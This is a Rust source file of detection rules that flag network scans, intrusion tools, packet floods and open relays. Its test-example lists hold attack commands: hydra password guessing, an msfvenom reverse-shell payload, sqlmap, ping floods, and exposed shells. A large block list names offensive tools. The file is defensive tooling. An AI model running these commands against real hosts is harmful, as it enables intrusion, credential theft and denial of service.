//! Scanning, breaking in, and flooding.

use crate::look::Look;
use crate::rule::{Help, Hit, Key, Rule, Severity, Test};

/// What the rules here have in common.
const ATTACK: Rule = Rule {
    class: "network",
    severity: Severity::High,
    help: Help::Anywhere,
    ..Rule::ASK
};

pub(super) const SCAN: Rule = Rule {
    id: "network.scan",
    keys: &[Key::ours("scan a network")],
    reason: "This probes a whole network, or a host for its weak spots; who owns it may take it for an attack.",
    alternative: Some("Ask one host for one port: `nmap -p 443 localhost`."),
    test: Test::Program(SCANNERS, |look| scans(look).then(|| look.hit())),
    matches: &[
        "nmap -sS -p- 10.0.0.0/8",
        "nmap -A 192.168.0.0/16",
        "nmap -iL targets.txt",
        "nmap --script vuln example.net",
        "nmap 10.0.0-255.1-254",
        "masscan 0.0.0.0/0 -p22 --rate 100000",
        "zmap -p 443 -o out",
        "arp-scan --localnet",
        "fping -g 10.0.0.0/8",
    ],
    near_misses: &[
        "nmap -sn 192.168.1.0/30",
        "nmap -p 22,80 localhost",
        "nmap -sV -p 8080 127.0.0.1",
        "fping -a -g 192.168.1.0/29",
    ],
    safe: &[
        "nmap --version",
        "nmap -p 443 example.net",
        "nmap --script-help default",
        "masscan --version",
    ],
    ..ATTACK
};

#[rustfmt::skip]
const SCANNERS: &[&str] = &[
    "angry-ip-scanner", "arp-scan", "fping", "masscan", "naabu", "netdiscover", "nmap", "onesixtyone", "rustscan",
    "unicornscan", "zgrab", "zgrab2", "zmap",
];

fn scans(look: &Look<'_>) -> bool {
    let words = || look.words().iter().filter_map(|w| w.known());
    if words().any(|w| matches!(w, "-V" | "-h" | "-hh") || w.starts_with("--script-help")) {
        return false;
    }
    match look.name {
        "fping" => words().any(is_wide),
        "nmap" => {
            words().any(|w| {
                matches!(
                    w,
                    "-iL" | "-iR" | "-A" | "-O" | "-T5" | "-T4" | "--osscan-guess"
                ) && !words().any(super::is_local)
                    || matches!(w, "-iL" | "-iR" | "-D" | "-S" | "-sI")
                    || is_wide(w)
            }) || words().any(|w| {
                let scripts = w.strip_prefix("--script=").unwrap_or(w);
                let kind = |part: &str| ATTACKS.contains(&part);
                scripts.split(',').any(kind) || scripts.contains("-brute")
            }) && words().any(|w| w.starts_with("--script"))
        }
        _ => !look.words().is_empty(),
    }
}

/// Kinds of nmap's scripts that do more than look.
const ATTACKS: &[&str] = &[
    "all",
    "brute",
    "dos",
    "exploit",
    "fuzzer",
    "intrusive",
    "malware",
    "vuln",
    "vulners",
];

/// A range with more than 256 addresses: `10.0.0.0/16`, `10.0.0-255.1-254`.
fn is_wide(target: &str) -> bool {
    if let Some((address, bits)) = target.rsplit_once('/') {
        let numeric = address.bytes().all(|b| b.is_ascii_digit() || b == b'.');
        return numeric && bits.parse::<u8>().is_ok_and(|bits| bits < 24);
    }
    let parts = || target.split('.');
    let range = |part: &str| part == "*" || part.contains('-') && part.len() > 2;
    let numeric = |part: &str| {
        part.bytes()
            .all(|b| b.is_ascii_digit() || b"-*,".contains(&b))
    };
    parts().count() == 4 && parts().all(numeric) && parts().filter(|p| range(p)).count() > 1
}

pub(super) const TOOL: Rule = Rule {
    id: "network.attack-tool",
    severity: Severity::Critical,
    keys: &[Key::ours("run a tool for breaking in")],
    reason: "This guesses passwords, looks for holes, makes code for breaking in, or takes over what others send.",
    alternative: Some(
        "Say first whose system it is and that its owner agreed; `nmap -p 443 localhost` looks at your own.",
    ),
    test: Test::Program(TOOLS, |look| {
        let alone = look.words().len() == 1;
        let asks = |w: &str| {
            matches!(w, "-V" | "--version" | "--list-formats" | "--show") || w == "-h" && alone
        };
        let asks = look.words().iter().filter_map(|w| w.known()).any(asks);
        let idle = look.words().is_empty() && !ALONE.contains(&look.name);
        (!asks && !idle).then(|| look.hit())
    }),
    matches: &[
        "hydra -l root -P words.txt ssh://10.0.0.5",
        "medusa -h x -u root -P p -M ssh",
        "msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.7 LPORT=9 -f elf -o a",
        "msfconsole -q -x 'use exploit/x; run'",
        "sqlmap -u 'http://example.net/?id=1'",
        "john --wordlist=w shadow",
        "hashcat -m 1000 h w",
        "impacket-secretsdump x",
        "nxc smb 10.0.0.0/24 -u a -p b",
        "airmon-ng start wlan0",
        "slowloris example.net",
        "wifite",
    ],
    near_misses: &["hydra -h", "john --list-formats", "grep hydra hosts.txt"],
    safe: &["john --version", "sqlmap --version", "man hydra"],
    ..ATTACK
};

/// Those that do something without any arguments.
const ALONE: &[&str] = &[
    "beef-xss",
    "msfconsole",
    "setoolkit",
    "sliver-server",
    "wifite",
];

/// Guessing, web and host exploitation, payloads, lateral movement, wireless, and floods.
#[rustfmt::skip]
const TOOLS: &[&str] = &[
    "aircrack-ng", "airgeddon", "airmon-ng", "beef-xss", "bloodhound-python", "bully", "changeme",
    "cewl", "certipy", "commix", "covenant", "crackmapexec", "crowbar", "crunch", "dirb", "dirbuster", "dnsspoof",
    "donut", "driftnet", "empire", "enum4linux", "enum4linux-ng", "evil-winrm", "evilginx", "feroxbuster", "ffuf",
    "fluxion", "gobuster", "goldeneye", "hashcat", "hashcat-cli", "havoc", "hulk", "hydra", "icmpsh",
    "impacket-dcomexec", "impacket-getnpusers", "impacket-getuserspns", "impacket-ntlmrelayx", "impacket-psexec",
    "impacket-secretsdump", "impacket-smbexec", "impacket-wmiexec", "john", "kerbrute", "king-phisher", "lazagne",
    "mdk3", "mdk4", "medusa", "mimikatz", "mimikatz.exe", "mitm6", "msfconsole", "msfd", "msfdb", "msfrpcd",
    "msfvenom", "ncrack", "netexec", "nikto", "ntlmrelayx.py", "nuclei", "nxc", "ophcrack", "patator", "pixiewps",
    "pupy", "psexec.py", "reaver", "revsocks", "rsmangler", "rubeus", "secretsdump.py", "setoolkit", "shellter",
    "sliver-client", "sliver-server", "slowhttptest", "slowloris", "smbexec.py", "smbmap", "sqlmap", "sqlninja",
    "sslstrip", "t50", "thc-hydra", "theharvester", "veil", "wapiti", "weevely", "wfuzz", "wifiphisher", "wifite",
    "wmiexec.py", "wpscan", "xsser", "yersinia",
];

pub(super) const FLOOD: Rule = Rule {
    id: "network.flood",
    keys: &[Key::ours("flood a host with packets")],
    reason: "This sends as much as it can to another host.",
    alternative: Some("Send a few: `ping -c 4 example.net`."),
    test: Test::Program(&["ping", "ping6", "nping"], |look| {
        let foreign = !look
            .words()
            .iter()
            .filter_map(|w| w.known())
            .any(super::is_local);
        let floods = match look.name {
            "nping" => look.has_word("--flood") || look.has('\0', "rate"),
            _ => look.words().iter().filter_map(|w| w.known()).any(|w| {
                w.starts_with('-')
                    && !w.starts_with("--")
                    && w.chars().skip(1).all(char::is_alphabetic)
                    && w.contains('f')
            }),
        };
        (foreign && floods).then(|| look.hit())
    }),
    matches: &[
        "ping -f example.net",
        "sudo ping -qf 198.51.100.7",
        "nping --rate 100000 example.net",
    ],
    near_misses: &["ping -c 4 example.net", "ping -f localhost"],
    safe: &["ping -c 1 -W 1 host", "ping6 -c 3 ::1"],
    ..ATTACK
};

pub(super) const RELAY: Rule = Rule {
    id: "network.relay",
    keys: &[Key::ours("let others in through this machine")],
    reason: "Whoever reaches this machine gets through it to others, or gets a shell on it.",
    alternative: Some("Bind it to this machine: `ssh -L 127.0.0.1:8080:localhost:80 host`."),
    test: Test::Program(RELAYS, |look| relays(look).then(|| look.hit())),
    matches: &[
        "ssh -D 0.0.0.0:1080 -N bob@198.51.100.7",
        "ssh -g -L 8080:db:80 host",
        "ssh -L '*:8080:db:80' host",
        "ssh -o GatewayPorts=yes -L 8080:db:80 host",
        "socat TCP-LISTEN:8080,fork TCP:db:5432",
        "rinetd -c x.conf",
        "microsocks -p 1080",
        "ttyd -p 80 bash",
        "gotty -w bash",
        "x11vnc -forever -nopw",
        "/usr/sbin/sshd -p 2222",
        "code-server --bind-addr 0.0.0.0:80 --auth none",
        "jupyter lab --ip=0.0.0.0 --NotebookApp.token=''",
        "dockerd -H tcp://0.0.0.0:2375",
        "tailscale up --advertise-routes=10.0.0.0/8",
        "kubectl port-forward --address 0.0.0.0 svc/x 80",
        "adb tcpip 5555",
        "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.7 9'",
    ],
    near_misses: &[
        "ssh -D 1080 host",
        "ssh -L 8080:db:80 host",
        "socat - TCP:localhost:80",
        "socat TCP-LISTEN:8080,fork,bind=127.0.0.1 TCP:db:5432",
        "kubectl port-forward --address 127.0.0.1 svc/x 80",
        "jupyter lab --ip=0.0.0.0",
        "sshd -t",
    ],
    safe: &[
        "tailscale up",
        "ssh host 'ls -g'",
        "adb devices",
        "jupyter lab",
    ],
    ..ATTACK
};

#[rustfmt::skip]
const RELAYS: &[&str] = &[
    "3proxy", "adb", "autossh", "code-server", "danted", "dockerd", "dropbear", "goproxy", "gotty", "in.telnetd",
    "jupyter", "jupyter-lab", "jupyter-notebook", "kubectl", "microsocks", "oc", "plink", "redir", "rinetd", "rshd",
    "shellinabox", "shellinaboxd", "simpleproxy", "socat", "ssh", "sshd", "tailscale", "telnetd", "tigervncserver",
    "tinyproxy", "ttyd", "upterm", "vncserver", "wetty", "x0vncserver", "x11vnc", "ztcp",
];

fn relays(look: &Look<'_>) -> bool {
    let words = || look.words().iter().filter_map(|w| w.known());
    let starts = |start: &str| words().any(|w| w.starts_with(start));
    let everywhere = |bind: &str| matches!(bind, "" | "*" | "0.0.0.0" | "[::]" | "::");
    match look.name {
        "ssh" | "autossh" | "plink" => forwards_to_all(look),
        "socat" => {
            let mut listens = words().filter(|w| {
                let lower = w.to_ascii_lowercase();
                lower.starts_with("tcp") && lower.contains("-listen:")
                    || lower.starts_with("openssl-listen:")
            });
            let open = listens.any(|w| !w.contains("bind=127.") && !w.contains("bind=localhost"));
            open && words().count() > 1
                && starts_any(look, &["tcp:", "tcp4:", "tcp6:", "openssl:", "unix"])
        }
        "sshd" | "dropbear" => {
            (look.has('p', "") || look.has('o', "")) && !words().any(|w| matches!(w, "-t" | "-T"))
        }
        "code-server" => {
            words().any(|w| w == "--auth=none")
                || look.value('\0', "auth") == Some("none")
                || pair(look, "--auth", "none")
        }
        "jupyter" | "jupyter-lab" | "jupyter-notebook" => {
            let open = words().any(|w| w == "--ip=0.0.0.0" || w == "--ip=*")
                || pair(look, "--ip", "0.0.0.0");
            let free = words().any(|w| w.ends_with(".token=") || w.ends_with(".password="));
            open && free
        }
        "x11vnc" | "x0vncserver" => {
            starts("-nopw") || !starts("-rfbauth") && !starts("-passwd") && starts("-forever")
        }
        "vncserver" | "tigervncserver" => words().any(|w| w.eq_ignore_ascii_case("none")),
        "dockerd" => {
            starts_any(look, &["tcp://"])
                && !words().any(|w| w.starts_with("tcp://127.") || w.starts_with("tcp://localhost"))
        }
        "tailscale" => {
            matches!(look.operand(0), Some("up" | "set"))
                && (starts("--advertise-routes")
                    || starts("--advertise-exit-node")
                    || starts("--ssh"))
        }
        "kubectl" | "oc" => {
            let call = super::super::subcommands::Call::of(look);
            call.verbs("port-forward|proxy")
                && (words().any(|w| w.strip_prefix("--address=").is_some_and(everywhere))
                    || pair(look, "--address", "0.0.0.0"))
        }
        "adb" => look.operand(0) == Some("tcpip"),
        "upterm" => look.operand(0) == Some("host"),
        _ => !look.words().is_empty(),
    }
}

/// An option with this value in the next word.
fn pair(look: &Look<'_>, option: &str, value: &str) -> bool {
    let mut pairs = look.words().windows(2);
    pairs.any(|p| matches!(p, [a, b] if a.known() == Some(option) && b.known() == Some(value)))
}

fn starts_any(look: &Look<'_>, starts: &[&str]) -> bool {
    look.words().iter().any(|w| {
        let text = w.known_prefix().to_ascii_lowercase();
        starts.iter().any(|s| text.starts_with(s))
    })
}

/// `-D 0.0.0.0:1080`, `-L *:80:db:80`, `-g`, `-o GatewayPorts=yes`.
fn forwards_to_all(look: &Look<'_>) -> bool {
    let read = look.options();
    // Behind the host stands the command of the other side.
    let host = read.operands.first();
    let end = host
        .and_then(|host| look.words().iter().position(|w| std::ptr::eq(w, *host)))
        .unwrap_or(usize::MAX);
    let mut forwards = false;
    let mut open = false;
    for option in read
        .options
        .iter()
        .filter(|o| o.word < end || look.words().len() == end + 1)
    {
        let value = option
            .value
            .and_then(crate::grammar::OptValue::known)
            .unwrap_or("");
        let lower = value.to_ascii_lowercase();
        let bind = value.rsplit_once(':').map(|(bind, _)| bind);
        if option.is_short('D') {
            forwards = true;
            open |= bind.is_some_and(|b| matches!(b, "" | "*" | "0.0.0.0" | "[::]"));
        } else if option.is_short('L') {
            forwards = true;
            open |= ["*:", "0.0.0.0:", "[::]:", ":"]
                .iter()
                .any(|p| value.starts_with(p));
        } else if option.is_short('g') {
            open = true;
        } else if option.is_short('o') {
            open |= lower.starts_with("gatewayports=yes") || lower.starts_with("gatewayports yes");
        }
    }
    forwards && open
}

/// A hit if what is fetched goes through a proxy on another host.
pub(super) fn through_proxy(look: &Look<'_>, foreign: fn(&str) -> bool) -> Option<Hit> {
    let mut option = false;
    let found = look.words().iter().find(|word| {
        let text = word.known_prefix();
        let value = match text.split_once('=') {
            Some((
                "--proxy" | "--preproxy" | "--socks5" | "--socks5-hostname" | "--socks4",
                value,
            )) => Some(value),
            Some(("https_proxy" | "http_proxy", value)) if look.name == "wget" => Some(value),
            _ => None,
        };
        let value = value.or(option.then_some(text));
        option = look.name == "curl"
            && matches!(
                text,
                "-x" | "--proxy" | "--preproxy" | "--socks5" | "--socks5-hostname" | "--socks4"
            );
        value.is_some_and(foreign)
    })?;
    Some(look.hit_word(found))
}
